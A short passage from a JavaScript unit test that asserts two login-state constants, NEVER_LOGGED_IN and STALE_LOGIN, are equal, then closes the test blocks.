    expect(CONTROLS.NEVER_LOGGED_IN).toEqual(CONTROLS.STALE_LOGIN)
  })
})
